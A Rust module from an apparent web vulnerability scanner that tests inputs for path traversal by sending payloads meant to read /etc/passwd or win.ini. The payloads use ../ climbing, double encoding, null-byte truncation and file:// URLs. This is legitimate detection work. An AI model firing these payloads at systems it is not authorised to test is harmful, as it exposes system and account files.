//! Path traversal and file inclusion: by the contents of a file that every system of its kind has.
//!
//! The file must be seen twice, and not when its name is followed by a word that makes it another file.

use vedette_protocol::finding::{Confidence, FindingType, ShownBy};

use super::{Of, Test, nothing_afterwards, shows_passwd};
use crate::web::{
    input::{Payload, Place},
    response::Response,
    trial::{Company, Proof, Stop, Trial, Verdict},
};

pub(crate) const TEST: Test = Test {
    name: "traversal",
    of: Of::Input,
    budget: 20,
    judge,
    afterwards: nothing_afterwards,
};

fn judge(trial: &Trial<'_>) -> Verdict {
    let in_path = trial.subject.input.place == Place::Path;
    for way in WAYS.iter().filter(|way| in_path || !way.paths_alone) {
        let send = |word: &str, nth| {
            let text = (way.spell)(trial.value(), word);
            let payload = if way.paths_alone {
                Payload::Spelled(text)
            } else {
                Payload::Value(text)
            };
            trial.shot(payload, nth, Company::Any)
        };
        if shows(trial, send("", 0)?, way)
            && shows(trial, send("", 1)?, way)
            && !shows(trial, send(&trial.token(30), 0)?, way)
        {
            return Ok(Some(Proof {
                type_: FindingType::WebPathTraversal,
                confidence: Confidence::Certain,
                shown_by: ShownBy::FileContents,
                detail: way.name,
            }));
        }
    }
    Ok::<_, Stop>(None)
}

fn shows(trial: &Trial<'_>, reply: &Response, way: &Way) -> bool {
    let shows = if way.windows { shows_win_ini } else { shows_passwd };
    shows(reply) && !trial.subject.base.iter().any(shows)
}

/// The initial file of every Windows.
fn shows_win_ini(response: &Response) -> bool {
    let text = response.text();
    text.contains("for 16-bit app support") && text.contains("[fonts]")
}

/// One way to name the file; the word is put behind its name.
struct Way {
    name: &'static str,
    spell: fn(&str, &str) -> String,
    windows: bool,
    paths_alone: bool,
}

const fn way(name: &'static str, spell: fn(&str, &str) -> String) -> Way {
    Way {
        name,
        spell,
        windows: false,
        paths_alone: false,
    }
}

const WAYS: &[Way] = &[
    way("climbing", |_, word| {
        format!("{}etc/passwd{word}", "../".repeat(UP))
    }),
    way("absolute", |_, word| format!("/etc/passwd{word}")),
    way("climbing behind its folder", |value, word| {
        let folder = value.rsplit_once('/').map_or(value, |(folder, _)| folder);
        format!("{folder}/{}etc/passwd{word}", "../".repeat(UP))
    }),
    way("climbing, doubled", |_, word| {
        format!("{}etc/passwd{word}", "....//".repeat(UP))
    }),
    way("climbing, encoded twice", |_, word| {
        format!("{}etc%2fpasswd{word}", "%2e%2e%2f".repeat(UP))
    }),
    way("climbing, cut at a zero", |value, word| {
        let ending = value.rsplit_once('.').map_or("html", |(_, ending)| ending);
        format!("{}etc/passwd{word}\0.{ending}", "../".repeat(UP))
    }),
    way("URL", |_, word| format!("file:///etc/passwd{word}")),
    Way {
        windows: true,
        ..way("climbing, Windows", |_, word| {
            format!("{}windows\\win.ini{word}", "..\\".repeat(UP))
        })
    },
    Way {
        paths_alone: true,
        ..way("climbing, in the path", |_, word| {
            format!("{}etc/passwd{word}", "../".repeat(UP))
        })
    },
];

const UP: usize = 12;
